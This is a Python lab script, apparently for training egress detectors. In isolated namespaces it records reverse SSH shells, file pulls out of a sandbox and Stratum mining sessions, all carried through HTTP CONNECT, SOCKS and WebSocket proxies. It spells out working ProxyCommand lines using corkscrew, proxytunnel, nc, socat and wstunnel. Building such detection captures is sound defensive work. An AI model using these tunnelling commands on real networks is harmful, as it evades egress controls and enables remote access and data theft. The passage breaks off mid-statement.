#!/usr/bin/env python3
"""Carrier scenarios of the capture lab: SSH tunnels and mining carried through an HTTP CONNECT proxy, SOCKS4/5,
WebSocket relays, TLS wrappers and the PROXY protocol, and the ordinary traffic through the same carriers that must
stay quiet (issue 12; research notes carriers-and-implementations.md sections 3-5).

Usage: python captures/lab_carriers.py record [SCENARIO ...] [--out DIR]     (root; default DIR captures/carriers)
       python captures/lab_carriers.py list

Not imported by lab.py: the detectors for these cases do not exist yet, and CI asserts that every scenario lab.py
knows is detected. Every address is one the lab creates (the RFC 2544 range); nothing leaves the namespaces.
The outside host gets more addresses, so that the allowlist question "may the sandbox ask its proxy for that
target?" can be judged (captures/carriers/rules.toml):

    198.18.0.5  PROXY_IP   the proxy host the sandbox may reach: squid, tinyproxy, dante, pproxy, websockify,
                           wstunnel, coin-hive-stratum, stunnel, socat, haproxy        (allowed)
    198.18.0.6  SSH_IP     OpenSSH sshd on 22 and 443 (ssh.lab-target.example)          (not allowed)
    198.18.0.7  POOL_IP    scripted mining pools (pool.lab-target.example)             (not allowed)
    198.18.0.8  DENIED_IP  nginx, upload.tunnel.example (a name the rules deny)          (not allowed)
    198.18.0.2  WEB_IP     nginx (HTTP, HTTPS with h2, a package index, a git repository, a health check),
                           event, chat and gRPC servers (pkg.example, git.example, ...)     (allowed)

The proxy host resolves those names from its own hosts file (/etc/netns/<ns>/hosts): the sandbox resolves nothing,
as behind a real proxy. Only sandbox <-> 198.18.0.2/.5 crosses the bridge; proxy -> target stays on the outside.
"""
from __future__ import annotations

import base64
import contextlib
import functools
import hashlib
import os
import random
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Callable, Iterator

# lab.py registers itself as `lab` even when it runs as the program
import lab as _lab  # noqa: E402
import lab_mining as _mining  # noqa: E402
from lab import OUTSIDE_IP, SANDBOX_IP, Lab, Label, ssh_args, type_into  # noqa: E402

HERE = Path(__file__).resolve().parent
FOLDER = HERE / "carriers"
SRC = FOLDER / "src"

WEB_IP = OUTSIDE_IP  # 198.18.0.2, allowed
PROXY_IP = "198.18.0.5"
SSH_IP = "198.18.0.6"
POOL_IP = "198.18.0.7"
DENIED_IP = "198.18.0.8"
EXTRA_IPS = (PROXY_IP, SSH_IP, POOL_IP, DENIED_IP)
SSH_NAME = "ssh.lab-target.example"
POOL_NAME = "pool.lab-target.example"
DENIED_NAME = "upload.tunnel.example"  # captures/carriers/rules.toml denies *.tunnel.example
WEB_NAMES = ("pkg.example", "git.example", "grpc.example", "events.example")
HOSTS = (f"127.0.0.1 localhost\n{SSH_IP} {SSH_NAME}\n{POOL_IP} {POOL_NAME}\n{WEB_IP} {' '.join(WEB_NAMES)}\n"
         f"{DENIED_IP} {DENIED_NAME}\n")

SQUID_PORT, TINYPROXY_PORT, DANTE_PORT, PPROXY_PORT = 3128, 8888, 1080, 1081
SESSION_S = 12.0  # mining sessions: with pushes every PUSH_S, about 5 pushes (issue 12 point 3)
PUSH_S = 2.5
NODE_PACKAGES = ("wstunnel@1.4.0", "coin-hive-stratum@1.4.10")
PIP_PACKAGES = ("pproxy", "websockets", "grpcio")

OURS: list[str] = []  # the scenarios of this module, in definition order


def carrier_scenario(fn: Callable[[Lab], list[Label]]) -> Callable[[Lab], list[Label]]:
    """Register a scenario with the lab; it runs with the outside host's extra addresses and hosts file."""
    @functools.wraps(fn)
    def run(lab: Lab) -> list[Label]:
        os.chmod(lab.workdir, 0o755)  # squid, tinyproxy, dante and nginx workers read their files as other users
        with _outside(lab):
            labels = fn(lab)
        time.sleep(1.0)  # let the last FIN/ACKs reach tcpdump before lab.recording stops it
        return labels
    _lab.scenario(run)
    OURS.append(fn.__name__.replace("_", "-"))
    return run


# ----------------------------------------------------------------------------------------------- plumbing
def _env(**extra: str) -> dict[str, str]:
    """The environment of lab programs: no proxy, pip or trust-store settings of this machine leak into a scenario
    (requests, for one, lets REQUESTS_CA_BUNDLE override pip's --cert)."""
    env = {k: v for k, v in os.environ.items()
           if not k.lower().endswith("_proxy") and not k.startswith(("PIP_", "GIT_", "CURL_"))
           and not any(part in k for part in ("CA_BUNDLE", "CA_CERT", "SSL_CERT", "CAINFO", "SSL_ROOTS"))}
    env.update(PIP_CONFIG_FILE=os.devnull, PIP_DISABLE_PIP_VERSION_CHECK="1", GIT_CONFIG_NOSYSTEM="1",
               GIT_TERMINAL_PROMPT="0", **extra)
    return env


def _run(lab: Lab, ns: str, *cmd: str, timeout: float = 90, env: dict | None = None) -> str:
    proc = subprocess.run(["ip", "netns", "exec", ns, *cmd], timeout=timeout, capture_output=True, text=True,
                          env=env or _env())
    if proc.returncode != 0:
        raise RuntimeError(f"lab: {' '.join(cmd[:4])}... in {ns} failed ({proc.returncode}): "
                           f"{(proc.stderr or proc.stdout).strip()[-600:]}")
    return proc.stdout


@contextlib.contextmanager
def _daemon(lab: Lab, ns: str, *cmd: str, port: int | None = None, env: dict | None = None,
            settle: float = 0.0) -> Iterator[subprocess.Popen]:
    """A server process in ns, stopped on exit; waits until something listens on `port`. Its output goes to a log
    in the work dir, quoted when it fails to start."""
    log = lab.workdir / f"{Path(cmd[0]).name}-{len(list(lab.workdir.glob('*.log')))}.log"
    with log.open("wb") as out:
        proc = subprocess.Popen(["ip", "netns", "exec", ns, *cmd], stdout=out, stderr=subprocess.STDOUT,
                                env=env or _env(), start_new_session=True)
    try:
        deadline = time.time() + 15
        while port is not None and proc.poll() is None and time.time() < deadline:
            if lab.run(ns, "ss", "-ltnH", f"sport = :{port}", check=False).stdout.strip():
                break
            time.sleep(0.1)
        else:
            if port is not None:
                raise RuntimeError(f"lab: {' '.join(cmd[:3])} did not listen on {port}: "
                                   f"{log.read_text(errors='replace')[-800:]}")
        if settle:
            time.sleep(settle)
        if proc.poll() is not None:
            raise RuntimeError(f"lab: {' '.join(cmd[:3])} exited ({proc.returncode}): "
                               f"{log.read_text(errors='replace')[-800:]}")
        yield proc
    finally:
        _lab.stop_process(proc, grace=3)


@contextlib.contextmanager
def _outside(lab: Lab) -> Iterator[None]:
    """The extra addresses of the outside host and its hosts file; resolv.conf files that keep any lookup inside
    the lab (the outside host asks its own address, where nothing answers; the sandbox its loopback)."""
    for ip in EXTRA_IPS:
        lab.run(lab.out, "ip", "addr", "add", f"{ip}/24", "dev", "eth0")
    out, sbx = Path("/etc/netns") / lab.out, Path("/etc/netns") / lab.sbx
    out.mkdir(parents=True, exist_ok=True)
    sbx.mkdir(parents=True, exist_ok=True)
    (out / "hosts").write_text(HOSTS)
    (out / "resolv.conf").write_text(f"nameserver {WEB_IP}\noptions timeout:1 attempts:1\n")
    # the sandbox resolves nothing (its proxy does): a stray lookup stays on its own loopback
    (sbx / "resolv.conf").write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    try:
        yield
    finally:
        shutil.rmtree(out, ignore_errors=True)
        shutil.rmtree(sbx, ignore_errors=True)
        with contextlib.suppress(OSError):
            Path("/etc/netns").rmdir()  # only when empty (no other lab uses it)
        for ip in EXTRA_IPS:
            lab.run(lab.out, "ip", "addr", "del", f"{ip}/24", "dev", "eth0", check=False)


def _version(dist: str) -> str:
    """The installed version of a Python distribution (for label notes: CI may have another)."""
    from importlib.metadata import PackageNotFoundError, version
    try:
        return version(dist)
    except PackageNotFoundError:
        return "?"


def _need(*tools: str) -> None:
    missing = [t for t in tools if shutil.which(t) is None and not os.access(f"/usr/sbin/{t}", os.X_OK)]
    if missing:
        raise RuntimeError(f"lab: {', '.join(missing)} not found (apt-get install squid tinyproxy corkscrew "
                           f"proxytunnel dante-server netcat-openbsd ncat stunnel4 socat websockify haproxy "
                           f"nginx-light libnginx-mod-stream proxychains4 curl git nodejs npm)")


def _node_modules() -> Path:
    """A node_modules folder with wstunnel (mhzed, npm) and coin-hive-stratum: $EGLAB_NODE_DIR, /opt/eglab-node, or
    installed with npm into a temporary folder at record time (never into the repository)."""
    candidates = [Path(os.environ["EGLAB_NODE_DIR"])] if os.environ.get("EGLAB_NODE_DIR") else []
    candidates += [Path("/opt/eglab-node"), Path("/tmp/egressguard-lab-node")]
    for base in candidates:
        mods = base / "node_modules"
        if (mods / "wstunnel").is_dir() and (mods / "coin-hive-stratum").is_dir():
            return mods
    _need("node", "npm")
    target = candidates[-1]
    target.mkdir(parents=True, exist_ok=True)
    proc = subprocess.run(["npm", "install", "--prefix", str(target), "--no-audit", "--no-fund", "--silent",
                           *NODE_PACKAGES], capture_output=True, text=True, timeout=600)
    if proc.returncode != 0:
        raise RuntimeError(f"lab: npm install {' '.join(NODE_PACKAGES)} failed: {proc.stderr.strip()[-400:]}")
    return target / "node_modules"


def _wstunnel() -> list[str]:
    return ["node", str(_node_modules() / "wstunnel" / "bin" / "wstt.js")]


def _node_env() -> dict[str, str]:
    return _env(NODE_PATH=str(_node_modules()))


def _python_tool(module: str) -> None:
    try:
        __import__(module)
    except ImportError:
        raise RuntimeError(f"lab: Python package {module} missing (pip install {' '.join(PIP_PACKAGES)})") from None


def _certificate(lab: Lab, name: str, *alt: str) -> tuple[Path, Path]:
    """A self-signed certificate (CA:TRUE, so clients can be given it as their trust anchor) for name and alt
    names/addresses, made now."""
    cert, key = lab.workdir / f"{name}.crt", lab.workdir / f"{name}.key"
    if not cert.exists():
        san = ",".join([f"DNS:{name}"] + [f"IP:{a}" if a[0].isdigit() else f"DNS:{a}" for a in alt])
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                        "-nodes", "-days", "2", "-subj", f"/CN={name}", "-addext", f"subjectAltName={san}",
                        "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
        os.chmod(key, 0o644)  # read by stunnel/nginx workers in the lab only; deleted with the work dir
    return cert, key


def _file(lab: Lab, name: str, size: int, seed: int) -> Path:
    """A file of `size` bytes that compresses like a binary download (SSH and TLS may compress nothing away)."""
    path = lab.workdir / "files" / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(random.Random(seed).randbytes(size))
    return path


# ----------------------------------------------------------------------------------------------- proxies
SQUID_CONF = """http_port {ip}:{port}
acl lab src 10.77.0.0/24
http_access allow lab
http_access deny all
# no SSL_ports/Safe_ports lists: this proxy lets its clients CONNECT to any port, as many egress proxies do
cache deny all
cache_mem 8 MB
access_log none
cache_log /dev/null
cache_store_log none
pid_filename none
logfile_rotate 0
coredump_dir {wd}
dns_nameservers {resolver}
hosts_file /etc/hosts
shutdown_lifetime 0 seconds
visible_hostname proxy.lab
"""


@contextlib.contextmanager
def _squid(lab: Lab) -> Iterator[None]:
    """squid 5 (Debian) on PROXY_IP:3128, CONNECT allowed to any port for the sandbox network."""
    _need("squid")
    conf = lab.workdir / "squid.conf"
    conf.write_text(SQUID_CONF.format(ip=PROXY_IP, port=SQUID_PORT, wd=lab.workdir, resolver=WEB_IP))
    with _daemon(lab, lab.out, "squid", "-N", "-f", str(conf), port=SQUID_PORT):
        yield


@contextlib.contextmanager
def _tinyproxy(lab: Lab) -> Iterator[None]:
    """tinyproxy 1.11 (Debian) on PROXY_IP:8888; no ConnectPort line, so CONNECT may go to any port (tinyproxy.conf)."""
    _need("tinyproxy")
    conf = lab.workdir / "tinyproxy.conf"
    conf.write_text(f"User nobody\nGroup nogroup\nPort {TINYPROXY_PORT}\nListen {PROXY_IP}\nTimeout 600\n"
                    f"MaxClients 50\nAllow 10.77.0.0/24\nLogLevel Warning\nViaProxyName \"tinyproxy\"\n")
    with _daemon(lab, lab.out, "tinyproxy", "-d", "-c", str(conf), port=TINYPROXY_PORT):
        yield


@contextlib.contextmanager
def _dante(lab: Lab) -> Iterator[None]:
    """Dante 1.4 (Debian dante-server) on PROXY_IP:1080: SOCKS 4 and 5, no authentication, CONNECT only."""
    _need("danted")
    conf = lab.workdir / "danted.conf"
    conf.write_text(f"logoutput: stderr\ninternal: {PROXY_IP} port = {DANTE_PORT}\nexternal: {PROXY_IP}\n"
                    "clientmethod: none\nsocksmethod: none\nuser.privileged: root\nuser.unprivileged: nobody\n"
                    "client pass { from: 10.77.0.0/24 to: 0.0.0.0/0 }\n"
                    "socks pass { from: 10.77.0.0/24 to: 0.0.0.0/0 command: connect }\n")
    with _daemon(lab, lab.out, "danted", "-f", str(conf), port=DANTE_PORT):
        yield


@contextlib.contextmanager
def _pproxy(lab: Lab, ns: str, *args: str, port: int) -> Iterator[None]:
    """pproxy (PyPI) with the given -l/-r URIs."""
    _python_tool("pproxy")
    with _daemon(lab, ns, sys.executable, "-m", "pproxy", *args, port=port):
        yield


@contextlib.contextmanager
def _out_sshd(lab: Lab) -> Iterator[None]:
    """OpenSSH sshd on SSH_IP:22 and :443 only (the other outside addresses keep their ports for the proxies)."""
    _lab._ssh_keys(lab)
    os.makedirs("/run/sshd", exist_ok=True)
    head = "Port 22\nPort 443\nListenAddress 0.0.0.0\n"
    if not _lab.SSHD_CONFIG.startswith(head):
        raise RuntimeError("lab: lab.SSHD_CONFIG changed; update lab_carriers._out_sshd")
    cfg = lab.workdir / "sshd-target.conf"
    cfg.write_text(f"Port 22\nPort 443\nListenAddress {SSH_IP}\n"
                   + _lab.SSHD_CONFIG[len(head):].format(wd=lab.workdir, name="target"))
    with _daemon(lab, lab.out, shutil.which("sshd") or "/usr/sbin/sshd", "-D", "-e", "-f", str(cfg), port=22):
        _lab._wait_listening(lab, lab.out, 443)
        yield


@contextlib.contextmanager
def _tunnel(lab: Lab, *args: str, proxy_command: str | None = None, settle: float = 2.5) -> Iterator[None]:
    """A long-running OpenSSH client in the sandbox (-N -R / -L), through `proxy_command` when given (ssh runs it
    with /bin/sh by design; the string holds only the lab's own constants)."""
    extra = ["-o", f"ProxyCommand={proxy_command}"] if proxy_command else []
    with _daemon(lab, lab.sbx, *ssh_args(lab, "-N", "-o", "ExitOnForwardFailure=yes", *extra, *args),
                 settle=settle):
        yield


SHELLS = [["id\r", "ls -la /tmp | head -5\r", "cat /etc/hostname\r", "uname -r\r", "exit\r"],
          ["whoami\r", "df -h / | tail -1\r", "ps aux | wc -l\r", "date\r", "exit\r"],
          ["pwd\r", "ls /etc | head\r", "cat /proc/loadavg\r", "hostname\r", "exit\r"],
          ["uptime\r", "free -m\r", "ls -l ~\r", "echo done\r", "exit\r"]]


def _log_back_in(lab: Lab, port: int, seed: int) -> None:
    """The outside logs into the sandbox through the reverse tunnel's listener and types commands (human timing)."""
    type_into(lab, lab.out, ssh_args(lab, "-tt", "-p", str(port), "root@127.0.0.1"), SHELLS[seed % len(SHELLS)],
              seed=seed)


@contextlib.contextmanager
def _sandbox_web(lab: Lab, port: int, sizes: tuple[int, ...], seed: int) -> Iterator[list[str]]:
    """Python's http.server on the sandbox's loopback with files of the given sizes; yields their names."""
    names = []
    for i, size in enumerate(sizes):
        names.append(f"report-{i}.bin")
        _file(lab, names[-1], size, seed + i)
    with _daemon(lab, lab.sbx, sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
                 "--directory", str(lab.workdir / "files"), port=port):
        yield names


@contextlib.contextmanager
def _target_web(lab: Lab, port: int, sizes: tuple[int, ...], seed: int) -> Iterator[list[str]]:
    """Python's http.server on the SSH target's loopback (reached through ssh -L)."""
    names = []
    folder = lab.workdir / "target-www"
    folder.mkdir(exist_ok=True)
    for i, size in enumerate(sizes):
        names.append(f"dist-{i}.tar.gz")
        (folder / names[-1]).write_bytes(random.Random(seed + i).randbytes(size))
    with _daemon(lab, lab.out, sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
                 "--directory", str(folder), port=port):
        yield names


def _curl(lab: Lab, ns: str, *args: str, timeout: float = 60) -> str:
    # -q first: no ~/.curlrc
    return _run(lab, ns, "curl", "-q", "-sS", "--fail", "--max-time", "40", *args, timeout=timeout)


def _fetch_all(lab: Lab, ns: str, base: str, names: list[str], pause: tuple[float, float], seed: int,
               *curl_args: str) -> None:
    rng = random.Random(seed)
    for name in names:
        _curl(lab, ns, *curl_args, "-o", "/dev/null", f"{base}/{name}")
        time.sleep(rng.uniform(*pause))


# ----------------------------------------------------------------------------------------------- pools and miners
@contextlib.contextmanager
def _pool(lab: Lab, dialect: str, port: int) -> Iterator[None]:
    """A scripted pool of captures/lab_mining.py (equihash / ethstratum / cryptonote) on POOL_IP."""
    with _daemon(lab, lab.out, *_mining._peer(lab, lab.out, "server", dialect, POOL_IP, port, push=PUSH_S,
                                             duration=SESSION_S), port=port):
        yield


def _miner(lab: Lab, dialect: str, host: str, port: int, wrapper: tuple[str, ...] = (), **opts) -> None:
    """A scripted miner of captures/lab_mining.py in the sandbox (optionally under a wrapper such as proxychains4)."""
    opts.setdefault("duration", SESSION_S)
    _run(lab, lab.sbx, *wrapper, *_mining._peer(lab, lab.sbx, "client", dialect, host, port, **opts),
         timeout=SESSION_S + 40)


def _aiostratum(lab: Lab, host: str, port: int, ssl: bool) -> str:
    """aiostratum-proxy 1.1 (PyPI, real) in the sandbox toward host:port with a scripted equihash miner behind it;
    falls back to the scripted miner alone. Returns the software part of the label's note."""
    if _mining._via_proxy(lab, host, port, ssl=ssl):
        return "aiostratum-proxy 1.1 (PyPI) with a scripted equihash miner behind it"
    _miner(lab, "equihash", host, port, **({"tls": 1} if ssl else {}))
    return "scripted equihash Stratum v1 miner (aiostratum-proxy unavailable)"


@contextlib.contextmanager
def _relay(lab: Lab, port: int, *upstream: str) -> Iterator[None]:
    """ncat 7.93 on the sandbox's loopback: every connection to `port` runs `upstream` (an argument list; ncat
    --exec splits on spaces, no shell) with the connection as its stdin/stdout."""
    _need("ncat")
    with _daemon(lab, lab.sbx, "ncat", "-l", "127.0.0.1", str(port), "--keep-open", "--exec", " ".join(upstream),
                 port=port):
        yield


# ----------------------------------------------------------------------------------------------- HTTP CONNECT
def _connect_note(target: str) -> str:
    return f"CONNECT target {target} is not allowed (expected unexpected_destination reason unbound_ip too)"


@carrier_scenario
def connect_reverse_shell(lab: Lab) -> list[Label]:
    """ssh -N -R through squid (corkscrew as ProxyCommand) to sshd on 443; the outside logs back in and types."""
    _need("corkscrew")
    with _squid(lab), _out_sshd(lab), _lab.sshd(lab, lab.sbx), \
            _tunnel(lab, "-p", "443", "-R", "2222:127.0.0.1:22", f"root@{SSH_NAME}",
                    proxy_command=f"corkscrew {PROXY_IP} {SQUID_PORT} %h %p"):
        _log_back_in(lab, 2222, seed=11)
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "reverse_ssh_tunnel",
             f"http_connect (squid 5.7, client corkscrew 2.0 as ssh ProxyCommand) -> OpenSSH 9.2p1 ssh -N -R "
             f"2222:127.0.0.1:22 to {SSH_NAME}:443; the outside logs back in and types 5 commands (80-260 ms/key); "
             + _connect_note(f"{SSH_NAME}:443"))]


@carrier_scenario
def connect_reverse_pull(lab: Lab) -> list[Label]:
    """ssh -N -R through tinyproxy (proxytunnel); the outside pulls three files from the sandbox with scp."""
    _need("proxytunnel")
    files = [_file(lab, f"export-{i}.tar", size, 20 + i) for i, size in enumerate((180_000, 260_000, 90_000))]
    with _tinyproxy(lab), _out_sshd(lab), _lab.sshd(lab, lab.sbx), \
            _tunnel(lab, "-R", "2201:127.0.0.1:22", f"root@{SSH_IP}",
                    proxy_command=f"proxytunnel -q -p {PROXY_IP}:{TINYPROXY_PORT} -d %h:%p"):
        for f in files:
            _run(lab, lab.out, *ssh_args(lab, "-P", "2201", program="scp"), f"root@127.0.0.1:{f}",
                 str(lab.workdir / f"pulled-{f.name}"))
            time.sleep(1.0)
    return [(SANDBOX_IP, f"{PROXY_IP}:{TINYPROXY_PORT}", "reverse_ssh_tunnel",
             f"http_connect (tinyproxy 1.11.1, client proxytunnel 1.10 as ssh ProxyCommand) -> ssh -N -R "
             f"2201:127.0.0.1:22 to {SSH_IP}:22; the outside pulls 3 files (90-260 KB) from the sandbox with scp; "
             + _connect_note(f"{SSH_IP}:22"))]


@carrier_scenario
def connect_forward(lab: Lab) -> list[Label]:
    """ssh -N -L through squid (OpenBSD nc -X connect); the sandbox downloads five files through the forward."""
    _need("nc")
    with _squid(lab), _out_sshd(lab), _target_web(lab, 8080, (40_000, 120_000, 25_000, 200_000, 60_000), 30) as names, \
            _tunnel(lab, "-L", "8081:127.0.0.1:8080", f"root@{SSH_NAME}",
                    proxy_command=f"nc -X connect -x {PROXY_IP}:{SQUID_PORT} %h %p"):
        _fetch_all(lab, lab.sbx, "http://127.0.0.1:8081", names, (0.8, 2.0), 31)
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "ssh_tunnel_other",
             f"http_connect (squid 5.7, client OpenBSD nc 1.219 -X connect) -> ssh -N -L 8081:127.0.0.1:8080 to "
             f"{SSH_NAME}:22; 5 curl downloads (25-200 KB) through the forward; " + _connect_note(f"{SSH_NAME}:22"))]


@carrier_scenario
def connect_stratum(lab: Lab) -> list[Label]:
    """Stratum v1 through tinyproxy: aiostratum-proxy -> a local ncat relay (--proxy-type http) -> scripted pool."""
    with _tinyproxy(lab), _pool(lab, "equihash", 3333), \
            _relay(lab, 13333, "/usr/bin/ncat", "--proxy", f"{PROXY_IP}:{TINYPROXY_PORT}", "--proxy-type", "http",
                   POOL_IP, "3333"):
        who = _aiostratum(lab, "127.0.0.1", 13333, ssl=False)
    return [(SANDBOX_IP, f"{PROXY_IP}:{TINYPROXY_PORT}", "stratum",
             f"http_connect (tinyproxy 1.11.1, client ncat 7.93 --proxy-type http as a local relay) -> Stratum v1: "
             f"{who} -> scripted equihash pool {POOL_IP}:3333 (subscribe/authorize/notify/submit); "
             + _connect_note(f"{POOL_IP}:3333"))]



# ----------------------------------------------------------------------------------------------- SOCKS
def _socks_note(target: str) -> str:
    return f"SOCKS target {target} is not allowed (expected unexpected_destination reason unbound_ip too)"


PROXYCHAINS_CONF = """strict_chain
proxy_dns
remote_dns_subnet 224
tcp_read_time_out 15000
tcp_connect_time_out 8000
localnet 127.0.0.0/255.0.0.0
[ProxyList]
socks5 {ip} {port}
"""


def _proxychains(lab: Lab) -> tuple[str, ...]:
    """proxychains-ng 4 (Debian proxychains4) toward dante, names resolved by the proxy (proxy_dns: SOCKS5 ATYP 3)."""
    _need("proxychains4")
    conf = lab.workdir / "proxychains.conf"
    conf.write_text(PROXYCHAINS_CONF.format(ip=PROXY_IP, port=DANTE_PORT))
    return ("proxychains4", "-q", "-f", str(conf))


@carrier_scenario
def socks5_reverse_shell(lab: Lab) -> list[Label]:
    """ssh -N -R through dante (OpenBSD nc -X 5); the outside logs back in and types."""
    _need("nc")
    with _dante(lab), _out_sshd(lab), _lab.sshd(lab, lab.sbx), \
            _tunnel(lab, "-R", "2222:127.0.0.1:22", f"root@{SSH_IP}",
                    proxy_command=f"nc -X 5 -x {PROXY_IP}:{DANTE_PORT} %h %p"):
        _log_back_in(lab, 2222, seed=12)
    return [(SANDBOX_IP, f"{PROXY_IP}:{DANTE_PORT}", "reverse_ssh_tunnel",
             f"socks5 (Dante 1.4.2, client OpenBSD nc 1.219 -X 5 as ssh ProxyCommand) -> ssh -N -R 2222:127.0.0.1:22 "
             f"to {SSH_IP}:22; the outside logs back in and types 5 commands; " + _socks_note(f"{SSH_IP}:22"))]


@carrier_scenario
def socks5_reverse_pull(lab: Lab) -> list[Label]:
    """ssh -N -R through pproxy's SOCKS5 (ncat --proxy-type socks5, name resolved by the proxy); the outside pulls
    files from the sandbox's web server through the tunnel."""
    with _pproxy(lab, lab.out, "-l", f"socks5://{PROXY_IP}:{PPROXY_PORT}", port=PPROXY_PORT), _out_sshd(lab), \
            _sandbox_web(lab, 8000, (300_000, 150_000, 420_000), 40) as names, \
            _tunnel(lab, "-p", "443", "-R", "9000:127.0.0.1:8000", f"root@{SSH_NAME}",
                    proxy_command=f"ncat --proxy {PROXY_IP}:{PPROXY_PORT} --proxy-type socks5 --proxy-dns remote "
                                  f"%h %p"):
        _fetch_all(lab, lab.out, "http://127.0.0.1:9000", names, (1.0, 2.5), 41)
    return [(SANDBOX_IP, f"{PROXY_IP}:{PPROXY_PORT}", "reverse_ssh_tunnel",
             f"socks5 (pproxy {_version('pproxy')}, client ncat 7.93 --proxy-type socks5 --proxy-dns remote) -> "
             f"ssh -N -R 9000:127.0.0.1:8000 to {SSH_NAME}:443; the outside pulls 3 files (150-420 KB) from the "
             f"sandbox's http.server with curl; " + _socks_note(f"{SSH_NAME}:443"))]


@carrier_scenario
def socks5_forward(lab: Lab) -> list[Label]:
    """ssh -N -L under proxychains4 through dante (the SSH server's name resolved by the proxy); five downloads."""
    chains = _proxychains(lab)
    with _dante(lab), _out_sshd(lab), _target_web(lab, 8080, (70_000, 30_000, 150_000, 45_000, 90_000), 50) as names:
        with _daemon(lab, lab.sbx, *chains, *ssh_args(lab, "-N", "-o", "ExitOnForwardFailure=yes", "-p", "443",
                                                      "-L", "8081:127.0.0.1:8080", f"root@{SSH_NAME}"), settle=2.5):
            _fetch_all(lab, lab.sbx, "http://127.0.0.1:8081", names, (0.5, 2.5), 51)
    return [(SANDBOX_IP, f"{PROXY_IP}:{DANTE_PORT}", "ssh_tunnel_other",
             f"socks5 with a domain-name request (Dante 1.4.2, client proxychains-ng 4.16 with proxy_dns) -> ssh -N -L "
             f"8081:127.0.0.1:8080 to {SSH_NAME}:443; 5 curl downloads (30-150 KB); " + _socks_note(f"{SSH_NAME}:443"))]


@carrier_scenario
def socks5_stratum(lab: Lab) -> list[Label]:
    """A scripted xmrig-style miner under proxychains4 through dante to the pool's name (as xmrig's own SOCKS5)."""
    chains = _proxychains(lab)
    with _dante(lab), _pool(lab, "cryptonote", 14444):
        _miner(lab, "cryptonote", POOL_NAME, 14444, wrapper=chains)
    return [(SANDBOX_IP, f"{PROXY_IP}:{DANTE_PORT}", "stratum",
             f"socks5 with a domain-name request like xmrig's (Dante 1.4.2, client proxychains-ng 4.16) -> scripted "
             f"xmrig-style miner (login with agent, job, submit, keepalived; lab_mining) -> scripted CryptoNote pool "
             f"{POOL_NAME}:14444; " + _socks_note(f"{POOL_NAME}:14444"))]


@carrier_scenario
def socks4_reverse_pull(lab: Lab) -> list[Label]:
    """ssh -N -R through dante's SOCKS 4 (socat SOCKS4 as ProxyCommand); the outside pulls files with scp."""
    _need("socat")
    files = [_file(lab, f"db-{i}.dump", size, 60 + i) for i, size in enumerate((220_000, 140_000))]
    # SOCKS 4, not 4a: Dante answers a 4a request (address 0.0.0.x plus a name) with "rejected" (tried)
    with _dante(lab), _out_sshd(lab), _lab.sshd(lab, lab.sbx), \
            _tunnel(lab, "-R", "2202:127.0.0.1:22", f"root@{SSH_IP}",
                    proxy_command=f"socat - SOCKS4:{PROXY_IP}:%h:%p,socksport={DANTE_PORT}"):
        for f in files:
            _run(lab, lab.out, *ssh_args(lab, "-P", "2202", program="scp"), f"root@127.0.0.1:{f}",
                 str(lab.workdir / f"pulled-{f.name}"))
            time.sleep(1.5)
    return [(SANDBOX_IP, f"{PROXY_IP}:{DANTE_PORT}", "reverse_ssh_tunnel",
             f"socks4 (Dante 1.4.2, client socat 1.7.4.4 SOCKS4 as ssh ProxyCommand) -> ssh -N -R 2202:127.0.0.1:22 "
             f"to {SSH_IP}:22; the outside pulls 2 files (140-220 KB) with scp; " + _socks_note(f"{SSH_IP}:22"))]


# ----------------------------------------------------------------------------------------------- WebSocket
WSTUNNEL_PORT, WEBSOCKIFY_PORT, WEBSOCKIFY_ALT_PORT, COINHIVE_PORT = 8000, 80, 8081, 8892


def _ws_note(target: str) -> str:
    return f"relay target {target} is not allowed (expected unexpected_destination reason unbound_ip once peeled)"


@contextlib.contextmanager
def _wstunnel_server(lab: Lab) -> Iterator[None]:
    """wstunnel 1.4.0 (npm, mhzed; Node) on PROXY_IP:8000: every WebSocket goes to the `?dst=` of its request."""
    with _daemon(lab, lab.out, *_wstunnel(), "-s", f"{PROXY_IP}:{WSTUNNEL_PORT}", port=WSTUNNEL_PORT,
                 env=_node_env()):
        yield


# the client's machine id is sent in an x-wstclient header: give it a lab value, not this machine's
WSTUNNEL_UUID = ("--uuid", "0f1e2d3c-lab-sandbox")


@carrier_scenario
def ws_reverse_shell(lab: Lab) -> list[Label]:
    """ssh -N -R inside WebSocket (wstunnel, npm, as ProxyCommand); the outside logs back in and types."""
    client = " ".join([*_wstunnel(), *WSTUNNEL_UUID, "-t", "stdio:%h:%p", f"ws://{PROXY_IP}:{WSTUNNEL_PORT}"])
    with _wstunnel_server(lab), _out_sshd(lab), _lab.sshd(lab, lab.sbx), \
            _tunnel(lab, "-R", "2222:127.0.0.1:22", f"root@{SSH_IP}", proxy_command=client, settle=3.5):
        _log_back_in(lab, 2222, seed=13)
    return [(SANDBOX_IP, f"{PROXY_IP}:{WSTUNNEL_PORT}", "reverse_ssh_tunnel",
             f"websocket (wstunnel 1.4.0 npm/Node, `websocket` library: masked binary frames, ?dst= in the URI, "
             f"subprotocol tunnel-protocol) -> ssh -N -R 2222:127.0.0.1:22 to {SSH_IP}:22; the outside logs back in "
             f"and types 5 commands; " + _ws_note(f"{SSH_IP}:22"))]


@carrier_scenario
def ws_connect_reverse_pull(lab: Lab) -> list[Label]:
    """ssh -N -R inside WebSocket inside HTTP CONNECT: our websockets client through squid to websockify; the
    outside pulls files from the sandbox with sftp."""
    _need("websockify")
    _python_tool("websockets")
    files = [_file(lab, f"notes-{i}.tgz", size, 70 + i) for i, size in enumerate((160_000, 310_000))]
    batch = lab.workdir / "sftp-batch"
    batch.write_text("".join(f"get {f} {lab.workdir}/pulled-{f.name}\n" for f in files))
    client = f"{sys.executable} {SRC / 'ws_stdio.py'} ws://{PROXY_IP}:{WEBSOCKIFY_PORT}/ " \
             f"--proxy http://{PROXY_IP}:{SQUID_PORT}"
    with _squid(lab), _out_sshd(lab), _lab.sshd(lab, lab.sbx), \
